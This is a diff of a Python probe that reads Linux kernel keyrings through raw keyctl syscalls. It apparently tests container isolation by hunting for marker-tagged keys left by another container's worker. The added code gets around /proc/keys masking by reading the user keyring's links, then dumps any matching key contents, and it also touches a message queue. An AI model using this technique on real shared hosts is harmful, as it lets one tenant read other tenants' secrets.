@@ -65,15 +65,23 @@ try:
     lines = open("/proc/keys").read().splitlines()
 except OSError:
     lines = []
-for line in lines:
-    if DROP in line:
-        buffer = ctypes.create_string_buffer(8000)
-        key = long(int(line.split()[0], 16))
+candidates = [int(line.split()[0], 16) for line in lines if DROP in line]
+# A container masks /proc/keys; but a uid is given again to the next container's worker (the same pid): the
+# keys its user keyring links are there to read.
+links = ctypes.create_string_buffer(4096)
+size = libc.syscall(long(numbers["keyctl"]), long(11), long(-4), links, long(4096))  # READ @u: its links
+candidates += [int.from_bytes(links.raw[at : at + 4], "little") for at in range(0, max(size, 0), 4)]
+for candidate in candidates:
+    buffer = ctypes.create_string_buffer(8000)
+    key = long(candidate)
+    size = libc.syscall(long(numbers["keyctl"]), long(6), key, buffer, long(8000))  # DESCRIBE
+    described = buffer.raw[: max(size, 0)].decode("utf-8", "replace")
+    if DROP not in described:
+        continue
+    if not described.startswith("keyring;"):  # a keyring's payload is its links: its name is what it carries
         size = libc.syscall(long(numbers["keyctl"]), long(11), key, buffer, long(8000))  # READ
-        if size <= 0 or "keyring" in line:  # a keyring's payload is its links: its name is what it carries
-            size = libc.syscall(long(numbers["keyctl"]), long(6), key, buffer, long(8000))  # DESCRIBE
-        if size > 0:
-            found.append("FOUND A KEY: " + buffer.raw[:size].decode("utf-8", "replace")[:200])
+        described = buffer.raw[: max(size, 0)].decode("utf-8", "replace")
+    found.append("FOUND A KEY: " + described[:200])
 queue = libc.syscall(long(numbers["msgget"]), long(QUEUE_KEY), long(0))
 if queue >= 0:
     message = ctypes.create_string_buffer(8 + 8000)
